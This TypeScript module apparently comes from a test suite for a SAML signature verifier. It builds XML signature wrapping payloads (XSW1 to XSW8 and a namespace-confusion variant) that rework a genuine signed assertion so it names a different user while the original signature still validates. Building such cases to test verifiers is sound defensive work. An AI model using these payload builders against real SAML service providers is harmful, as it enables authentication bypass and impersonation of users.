import { after as afterElement, beforeSignature, intoSignature, replaceSpan, span, swap, withId, withoutSignature } from './xml-surgery.ts';
import { samlId } from './xmlsec.ts';

/**
 * XML signature wrapping (XSW) attacks, as text surgery on a genuine signed message: the attacker's
 * goal in each is to be read as Marie Svobodová with a signature the IdP made for Jan Novák.
 */

/** A genuine answer in pieces an attacker can rearrange. */
export interface SignedPieces {
  /** The signed Assertion, as the IdP signed it. */
  assertion: string;
  /** The whole Response (signed or not) holding exactly `assertion`. */
  response: string;
}

export const TO_MARIE: Array<[string, string]> = [
  ['>Jan<', '>Marie<'],
  ['>Novák<', '>Svobodová<'],
  ['>1980-04-12<', '>1975-11-03<'],
  ['>Praha<', '>Brno<'],
];

/** The signed assertion's content changed to Marie, under a new ID, its signature dropped. */
export const evilUnsigned = (a: string) => swap(withId(withoutSignature(a), samlId()), TO_MARIE);
/** The signed assertion's content changed to Marie, under a new ID, its (now dangling) signature kept. */
export const evilKeepingSignature = (a: string) => swap(withId(a, samlId()), TO_MARIE);
/** What the signature really covers: the original, without the signature (enveloped transform). */
const original = (a: string) => withoutSignature(a);
/** The response with its assertion replaced by `body` (a response signature, if any, stays as it was). */
export const withBody = (g: SignedPieces, body: string) => replaceSpan(g.response, span(g.response, 'saml:Assertion'), body);

export interface WrappingAttack {
  name: string;
  /** `responseSigned`: whether the genuine Response carries its own signature (else only the assertion is signed). */
  build(g: SignedPieces, responseSigned: boolean): string;
}

export const WRAPPING_ATTACKS: WrappingAttack[] = [
  {
    name: 'XSW1: the signed element copied into its own Signature, an evil one in its place',
    build: (g, responseSigned) => {
      if (!responseSigned) return withBody(g, intoSignature(evilKeepingSignature(g.assertion), original(g.assertion)));
      const evil = withId(withBody(g, evilUnsigned(g.assertion)), samlId());
      return intoSignature(evil, withoutSignature(g.response));
    },
  },
  {
    name: 'XSW2: the signed element copied beside its detached Signature, an evil one in its place',
    build: (g, responseSigned) => {
      if (!responseSigned) return withBody(g, beforeSignature(evilKeepingSignature(g.assertion), original(g.assertion)));
      const evil = withId(withBody(g, evilUnsigned(g.assertion)), samlId());
      return beforeSignature(evil, withoutSignature(g.response));
    },
  },
  { name: 'XSW3: an evil assertion before the signed one', build: (g) => withBody(g, evilUnsigned(g.assertion) + g.assertion) },
  {
    name: 'XSW4: an evil assertion wrapping the signed one',
    build: (g) => {
      const evil = evilUnsigned(g.assertion);
      const close = evil.lastIndexOf('</saml:Assertion>');
      return withBody(g, evil.slice(0, close) + g.assertion + evil.slice(close));
    },
  },
  { name: 'XSW5: the signature kept in the evil assertion, the original appended to the response', build: (g) => withBody(g, evilKeepingSignature(g.assertion) + original(g.assertion)) },
  { name: 'XSW6: the signature kept in the evil assertion, the original inside that signature', build: (g) => withBody(g, intoSignature(evilKeepingSignature(g.assertion), original(g.assertion))) },
  {
    name: 'XSW7: the signed assertion hidden in samlp:Extensions, an evil one in its place',
    build: (g) => {
      const extensions = `<samlp:Extensions>${g.assertion}</samlp:Extensions>`;
      const body = withBody(g, evilUnsigned(g.assertion));
      return g.response.includes('<ds:Signature') && g.response.indexOf('<ds:Signature') < g.response.indexOf('<saml:Assertion')
        ? afterElement(body, 'ds:Signature', extensions)
        : afterElement(body, 'saml:Issuer', extensions);
    },
  },
  {
    name: 'XSW8: the original inside a ds:Object of the signature kept in the evil assertion',
    build: (g) => withBody(g, intoSignature(evilKeepingSignature(g.assertion), `<ds:Object>${original(g.assertion)}</ds:Object>`)),
  },
  {
    name: 'XSW with the evil assertion in a foreign namespace (local-name() confusion)',
    build: (g) => {
      const foreign = evilUnsigned(g.assertion).replace(/<(\/?)saml:Assertion/g, '<$1evil:Assertion').replace('<evil:Assertion ', '<evil:Assertion xmlns:evil="urn:example:not-saml" ');
      return afterElement(withBody(g, foreign), 'evil:Assertion', `<samlp:Extensions>${g.assertion}</samlp:Extensions>`);
    },
  },
];
